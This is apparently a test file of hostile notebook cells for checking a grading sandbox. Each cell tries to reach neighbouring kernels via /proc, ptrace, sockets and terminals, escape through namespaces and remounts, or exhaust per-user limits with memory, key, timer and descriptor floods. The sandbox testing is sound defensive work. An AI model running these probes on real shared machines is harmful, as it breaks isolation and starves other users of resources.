"""Attacks on what kernels have in common: the processes that they are forked from, and what Linux counts for each user.

All kernels of a machine come from one zygote, through a fork server for each worker, and belong to the same user. What
one of them takes of a thing that is counted for that user, its neighbours lack. Such attacks take little (the
machine is in use), but more than any notebook needs.
"""

# %% hostile="process-numbers" exercise="cube" loses=""
# Looks for the zygote, the fork servers and the neighbours in every corner of /proc, and by every small number.
import os
import re

attempt("a process in /proc", lambda: [name for name in os.listdir("/proc") if name.isdigit() and name != "1"])
attempt("a process by its number", lambda: [n for n in range(2, 1000) if os.path.exists(f"/proc/{n}")])
attempt("a process above", lambda: [name for name in os.listdir("/proc/self/..") if name.isdigit() and name != "1"])
attempt("another first process", lambda: not os.path.samefile("/proc/1", "/proc/self"))
attempt("a file of /proc", lambda: [name for name in ("kcore", "kmsg", "keys", "key-users", "sysvipc", "slabinfo",
        "sysrq-trigger", "kallsyms", "sched_debug", "timer_list", "fs", "bus") if os.path.exists(f"/proc/{name}")])  # fmt: skip
for place in ("root", "cwd", "map_files/../..", "task/../.."):
    attempt(f"processes through {place}", lambda: [name for name in os.listdir(f"/proc/self/{place}/proc")
                                                   if name.isdigit() and name != "1"])
attempt("a secret in its own roots", lambda: [path for path in PLACES["files"] for root in ("root", "task/../root")
                                              if os.path.exists(f"/proc/self/{root}{path}")])


def cube(x):
    return x**3


# %% hostile="parent-by-number" exercise="cube" loses=""
# Reads in /proc which number its parent has outside, and signals, traces and reads all processes by such numbers.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
with open("/proc/self/stat") as file:
    parent = int(file.read().rpartition(")")[2].split()[1])
own = set()
for task in os.listdir("/proc/self/task"):
    with open(f"/proc/self/task/{task}/status") as file:
        own |= {int(line.split()[-1]) for line in file if line.startswith("NSpid")}
numbers = [n for n in {parent, *range(2, 1000), PLACES["victim"]} if n not in own and n > 0]


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def reached(call):
    """The numbers for which a call finds a process."""
    found = []
    for number in numbers:
        ctypes.set_errno(0)
        if call(number) >= 0:
            found.append(number)
    return found


def pidfd(number):
    try:
        return os.pidfd_open(number)
    except OSError:
        return -1


here = ctypes.create_string_buffer(8)
mine, theirs = Piece(ctypes.addressof(here), 8), Piece(0x400000, 8)
attempt("signalling", lambda: reached(lambda n: libc.kill(n, 0)))
attempt("stopping a group", lambda: reached(lambda n: libc.kill(-n, 0)))
attempt("a descriptor of a process", lambda: reached(pidfd))
attempt("tracing", lambda: reached(lambda n: libc.ptrace(16, n, None, None)))
attempt("reading memory", lambda: reached(
    lambda n: libc.process_vm_readv(n, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)))
attempt("another's limits", lambda: reached(lambda n: libc.prlimit(n, 7, None, None)))
attempt("another's processors", lambda: reached(lambda n: libc.sched_setscheduler(n, 0, ctypes.byref(ctypes.c_int(0)))))


def cube(x):
    return x**3


# %% hostile="inherited-files" exercise="cube" loses=""
# Looks for descriptors that came with the fork: the zygote's listening socket, a worker's connection, files, pipes.
import os
import socket
import stat

from ipykernel import get_connection_file

own = (os.path.dirname(get_connection_file()), os.path.expanduser("~"), "/dev/null", "pipe:", "anon_inode:", "socket:")


def names():
    return {int(name): os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd")
            if os.path.lexists(f"/proc/self/fd/{name}")}


def foreign_sockets():
    for number in names():
        if stat.S_ISSOCK(os.stat(number).st_mode):
            with socket.socket(fileno=os.dup(number)) as one:
                if one.family == socket.AF_UNIX and one.getsockname() and own[0] not in str(one.getsockname()):
                    yield one.getsockname()


attempt("a file", lambda: {n: name for n, name in names().items() if not name.startswith(own)})
attempt("a descriptor of a large number", lambda: [number for number in names() if number > 100])
attempt("a socket", lambda: list(foreign_sockets()))


def cube(x):
    return x**3


# %% hostile="sockets-by-path" exercise="cube" loses=""
# Connects to the zygote, to fork servers and to the kernels beside it, by paths and by abstract names.
import glob
import os
import socket

from ipykernel import get_connection_file


def greeting(address):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(1)
        connection.connect(address)
        connection.sendall(b'{"start": 1}\n')
        return connection.recv(100)


folder = os.path.dirname(get_connection_file())
above = [folder]
while above[-1] != "/":
    above.append(os.path.dirname(above[-1]))
for place in above[1:]:
    attempt(f"the zygote's socket in {place}", lambda: greeting(os.path.join(place, "socket")))
    attempt(f"a neighbour in {place}", lambda: [path for path in glob.glob(os.path.join(place, "**/kernel.json"))
                                                if not path.startswith(folder)])
with open("/proc/self/net/unix") as file:
    listed = [line.split()[7] for line in list(file)[1:] if len(line.split()) > 7]
attempt("a listed socket", lambda: [name for name in listed if folder not in name])
attempt("an abstract socket", lambda: greeting("\0" + PLACES["abstract"]))


def cube(x):
    return x**3


# %% hostile="shared-pages" exercise="cube" loses=""
# Looks for pages that all kernels write to in common since the fork: memory shared without a name, or by a file.
with open("/proc/self/maps") as file:
    shared = [line.strip() for line in file if line.split()[1].endswith("s") and "w" in line.split()[1]]
attempt("a page in common", lambda: shared)


def cube(x):
    return x**3


# %% hostile="held-terminal" exercise="cube" loses=""
# Keeps a terminal open for a second: a neighbour, as the next attack is, could write into it.
import os
import select

terminal, other = os.openpty()
attempt("a neighbour's text", lambda: select.select([terminal, other], [], [], 1.5)[0])


def cube(x):
    return x**3


# %% hostile="anothers-terminal" exercise="cube" loses=""
# Looks for a second for terminals that a neighbour has open, and writes into them.
import glob
import os
import time

end, found = time.monotonic() + 1.5, []
while time.monotonic() < end and not found:
    found = glob.glob("/dev/pts/[0-9]*")
    time.sleep(0.01)
attempt("a neighbour's terminal", lambda: [os.write(os.open(path, os.O_RDWR | os.O_NOCTTY), b"exit\n")
                                           for path in found])


def cube(x):
    return x**3


# %% hostile="uncovered-proc" exercise="cube" loses=""
# In a child without threads: becomes root of a namespace, takes away what covers /proc and the folder of sockets,
# mounts others over them, and looks who is there.
import ctypes
import os

from ipykernel import get_connection_file

libc = ctypes.CDLL(None, use_errno=True)
exchange = os.path.dirname(os.path.dirname(get_connection_file())).encode()


def said(result):
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def inside(write):
    """In the child, in its namespace: each step, whatever became of the one before."""
    steps = [("no cover on /proc", lambda: libc.umount2(b"/proc", 2)),
             ("no cover on /proc/self", lambda: libc.umount2(b"/proc/self", 2)),
             ("no cover on the sockets", lambda: libc.umount2(exchange, 2)),
             ("no cover on /tmp", lambda: libc.umount2(b"/tmp", 2)),
             ("a fresh /proc", lambda: libc.mount(b"proc", b"/proc", b"proc", 0, None)),
             ("the old /proc elsewhere", lambda: libc.mount(b"/proc", b"/mnt", None, 8192, None)),
             ("a writable /proc/sys", lambda: libc.mount(None, b"/proc/sys", None, 32 | 4096, None)),
             ("the root again", lambda: libc.mount(b"/", b"/tmp", None, 4096, None))]  # fmt: skip
    for what, step in steps:
        try:
            said(step())
            write(f"=> got {what}")
        except OSError as error:
            write(f"=> stopped {what}: OSError: {error}")
    others = [name for name in os.listdir("/proc") if name.isdigit() and name != "1"]
    write(f"=> got processes {others}" if others else "=> stopped others: nothing there")


def in_one(write):
    said(libc.unshare(0x10000000 | 0x00020000 | 0x20000000))
    inside(write)


attempt_in_a_child("a namespace of its own", in_one)


def cube(x):
    return x**3


# %% hostile="many-namespaces" exercise="cube" loses=""
# Makes namespaces of users, mounts and networks, which are counted for the user and cost the machine memory (8).
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)


def made(number):
    """How many children stand in namespaces of their own."""
    reading, writing = os.pipe()
    children = []
    for _ in range(number):
        if (child := os.fork()) == 0:
            os.write(writing, b"1" if libc.unshare(0x10000000 | 0x00020000 | 0x40000000) == 0 else b"0")
            time.sleep(10)
            os._exit(0)
        children.append(child)
    os.close(writing)
    answers = b"".join(os.read(reading, 1) for _ in children)
    for child in children:
        os.kill(child, 9)
        os.waitpid(child, 0)
    return answers.count(b"1")


def refused():
    libc.unshare(0x10000000)
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


attempt("namespaces", lambda: made(8) or refused())
flags = ctypes.create_string_buffer((0x10000000).to_bytes(8, "little") + bytes(56))
if (child := libc.syscall(435, flags, 64)) == 0:
    os._exit(0)
attempt("a namespace by clone3", lambda: child > 0)


def cube(x):
    return x**3


# %% hostile="inotify" exercise="cube" loses=""
# Takes some of the user's 128 watchers of files and of file systems, which its neighbours then lack (30 of them).
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def refused():
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


for name, call in (("files", libc.inotify_init), ("files, by another name", lambda: libc.inotify_init1(0)),
                   ("file systems", lambda: libc.fanotify_init(0x200, 0))):  # fmt: skip
    watchers = [one for one in (call() for _ in range(10)) if one >= 0]
    attempt(f"watchers of {name}", lambda: watchers or refused())
    for one in watchers:
        os.close(one)


def cube(x):
    return x**3


# %% hostile="message-queues" exercise="cube" loses=""
# Takes the bytes that all message queues of a user may have together, and queues of the older kind.
import ctypes
import os

library = ctypes.CDLL("librt.so.1", use_errno=True)
flags = os.O_CREAT | os.O_RDWR


def refused():
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


attempt("message queues", lambda: [n for n in range(10)
                                   if library.mq_open(b"/queue%d" % n, flags, 0o600, None) >= 0] or refused())  # fmt: skip
attempt("older queues", lambda: [n for n in range(10) if library.msgget(n + 1, 0o1600) >= 0] or refused())


def cube(x):
    return x**3


# %% hostile="keys" exercise="cube" loses=""
# Fills the user's share of the kernel's keyrings (200 keys) with keys in rings of its own.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
RINGS = [ctypes.c_long(number) for number in (-1, -2, -3, -4, -5)]  # thread, process, session, user, user's session


def refused():
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


attempt("keys", lambda: [n for n in range(60) for ring in RINGS[:2] if libc.syscall(
    248, b"user", b"course-attack-%d" % n, b"x" * 100, 100, ring) >= 0] or refused())  # fmt: skip
attempt("a ring", lambda: [ring.value for ring in RINGS if libc.syscall(250, 0, ring, 1) >= 0] or refused())


def cube(x):
    return x**3


# %% hostile="timers" exercise="cube" loses=""
# Makes timers, each of which holds one of the signals that may wait for a user (2000).
import ctypes
import os

library = ctypes.CDLL("librt.so.1", use_errno=True)
timers = []
while len(timers) < 2000:
    timer = ctypes.c_void_p()
    if library.timer_create(1, None, ctypes.byref(timer)) != 0:
        break
    timers.append(timer)
if len(timers) < 2000:
    print(f"=> stopped at {len(timers)} timers: {os.strerror(ctypes.get_errno())}")
attempt("2000 timers", lambda: len(timers) == 2000)
for timer in timers:
    library.timer_delete(timer)


def cube(x):
    return x**3


# %% hostile="asynchronous-reads" exercise="cube" loses=""
# Reserves reads without waiting, of which the whole machine has 65536 (1000 of them), and the rings that came after.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
context = ctypes.c_ulong(0)


def refused():
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


attempt("asynchronous reads", lambda: libc.syscall(206, 1000, ctypes.byref(context)) == 0 or refused())
attempt("a ring", lambda: libc.syscall(425, 64, ctypes.create_string_buffer(120)) >= 0 or refused())


def cube(x):
    return x**3


# %% hostile="terminals" exercise="cube" loses=""
# Opens terminals, of which the whole machine has some thousands (here: 40).
import os

pairs = []
try:
    while len(pairs) < 40:
        pairs.append(os.openpty())
    attempt("40 terminals", lambda: True)
except OSError as error:
    print(f"=> stopped at {len(pairs)} terminals: {type(error).__name__}: {error}")
for pair in pairs:
    os.close(pair[0])
    os.close(pair[1])


def cube(x):
    return x**3


# %% hostile="empty-files" exercise="cube" loses=""
# Makes empty files, which take no disk and a kilobyte of the machine's memory each, where it may (20,000 in each).
import os
import shutil

for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
    made = 0
    os.mkdir(f"{folder}/many")
    try:
        while made < 20_000:
            os.mknod(f"{folder}/many/{made}")
            made += 1
        attempt(f"20,000 files in {folder}", lambda: True)
    except OSError as error:
        print(f"=> stopped at {made} files: {type(error).__name__}: {error}")
    shutil.rmtree(f"{folder}/many")


def cube(x):
    return x**3


# %% hostile="memory-in-segments" exercise="cube" loses="" may="*"
# Keeps memory in shared segments that no process has in its maps any more (2.4 GB; 1.5 are allowed).
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segments = []
while len(segments) < 24 and (segment := libc.shmget(0, 100 * 2**20, 0o1600)) >= 0:
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 100 * 2**20)
    libc.shmdt(ctypes.c_void_p(address))
    segments.append(segment)
if len(segments) < 24:
    print(f"=> stopped at {len(segments)} segments: {os.strerror(ctypes.get_errno())}")
time.sleep(0.7)
attempt("2.4 GB in segments", lambda: len(segments) == 24)
for segment in segments:
    libc.shmctl(segment, 0, None)


def cube(x):
    return x**3


# %% hostile="memory-given-back" exercise="cube" loses="" may="*"
# Keeps memory in shared pages that its processes have told Linux they do not need (1.6 GB; 1.5 are allowed).
import mmap
import os


def take(number):
    source = os.open("/dev/zero", os.O_RDWR) if number % 2 else -1  # both are shared memory without a name
    pages = mmap.mmap(source, 400 * 2**20)
    for page in range(0, 400 * 2**20, 4096):
        pages[page] = 1
    pages.madvise(mmap.MADV_DONTNEED)
    return pages


attempt_in_children("1.6 GB of shared pages", 4, take)


def cube(x):
    return x**3


# %% hostile="memory-files-of-many" exercise="cube" loses="" may="*"
# Keeps memory in files that are in no folder, in several processes, none of which opens too many (2.4 GB).
import os


def take(number):
    for _ in range(50):
        os.write(os.memfd_create("bomb"), bytes(15 * 2**20))
        os.write(os.memfd_create("bomb"), bytes(10 * 2**20))


attempt_in_children("2.4 GB in memory files", 2, take)


def cube(x):
    return x**3


# %% hostile="descriptors-in-flight" exercise="cube" loses=""
# Sends descriptors that nobody receives: with more of a user's than one process may open, none of its neighbours can
# send any (150 of 128 here).
import ctypes
import os
import socket

held, libc = [], ctypes.CDLL(None, use_errno=True)


def send():
    with open("/dev/null") as file:
        for _ in range(3):
            held.append(socket.socketpair())
            socket.send_fds(held[-1][0], [b"x"], [file.fileno()] * 50)
    return True


def send_many_at_once():
    if libc.sendmmsg(1, ctypes.create_string_buffer(64), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


attempt("descriptors in flight", send)
attempt("descriptors in flight, by another name", send_many_at_once)
for pair in held:
    pair[0].close()
    pair[1].close()


def cube(x):
    return x**3


# %% hostile="watched-files" exercise="cube" loses=""
# Watches files by epoll, of which a user has some millions, each file again under every free number: 5,200 with 128
# open files as here, 30 million with 512. Without one left no kernel of the user's can start.
import os
import select

files = [os.eventfd(0) for _ in range(10)]
watchers = [select.epoll() for _ in range(20)]
made = 0
try:
    for number in range(100, 126):
        for file in files:
            os.dup2(file, number)
            for watcher in watchers:
                watcher.register(number)
                made += 1
        os.close(number)
    attempt("5,200 watches", lambda: made)
except OSError as error:
    print(f"=> stopped at {made} watches: {type(error).__name__}")
for one in watchers:
    one.close()
for file in files:
    os.close(file)


def cube(x):
    return x**3
